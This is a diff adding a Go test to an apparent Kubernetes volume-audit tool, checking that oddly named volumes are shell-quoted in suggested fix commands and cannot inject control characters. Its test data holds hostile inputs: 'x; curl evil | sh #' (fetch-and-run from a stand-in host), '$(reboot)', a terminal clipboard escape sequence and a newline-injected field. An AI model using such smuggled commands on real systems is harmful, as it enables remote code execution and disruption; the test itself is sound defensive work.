@@ -5,6 +5,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 
 	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
@@ -71,6 +72,36 @@ func TestVolumesAreJudgedByTheirCluster(t *testing.T) {
 		}
 		if !slices.Equal(kinds, test.want) {
 			t.Errorf("%s: found %v, want %v", name, kinds, test.want)
+		}
+	}
+}
+
+// A storage that names a volume in an odd way hides no other finding, and its name stands in no command. What --fix would read as another name, or as all, is
+// not named to it; every other name is one word of the command.
+func TestAnOddNameOfAVolumeIsQuotedAndHidesNothing(t *testing.T) {
+	t.Parallel()
+	for name, fix := range map[string]string{
+		"x; curl evil | sh #": `flex-dispatcher audit --storage=gold '--fix=x; curl evil | sh #'  # unless it is kept on purpose`,
+		"$(reboot)":           `flex-dispatcher audit --storage=gold '--fix=$(reboot)'  # unless it is kept on purpose`,
+		"x\x1b]52;c;ZQ==\a":   `flex-dispatcher audit --storage=gold $'--fix=x\033]52;c;ZQ==\007'  # unless it is kept on purpose`,
+		"*":                   `delete the volume * in the storage, if it is neither in use nor another cluster's`,
+		"v1," + leftID:        `delete the volume v1,` + leftID + ` in the storage, if it is neither in use nor another cluster's`,
+		"v1\nSecretLeft: x":   `delete the volume "v1\nSecretLeft: x" in the storage, if it is neither in use nor another cluster's`,
+		`"v1"`:                `delete the volume "\"v1\"" in the storage, if it is neither in use nor another cluster's`,
+	} {
+		found := audit.Check(abandoned(func(s *audit.State) {
+			s.Volumes["gold"] = append(s.Volumes["gold"], audit.Volume{UID: "odd", Volume: name, ClusterUID: ownCluster, Class: name})
+		}))
+		at := slices.IndexFunc(found, func(f audit.Finding) bool { return f.UID == "odd" })
+		if len(found) != 2 || at < 0 {
+			t.Errorf("%q: found %+v", name, found)
+			continue
+		}
+		if found[at].Fix != fix {
+			t.Errorf("%q: fixed by %s, want %s", name, found[at].Fix, fix)
+		}
+		if text := found[at].Object + found[at].Why; strings.ContainsFunc(text, unicode.IsControl) {
+			t.Errorf("%q: the finding is %q", name, text)
 		}
 	}
 }
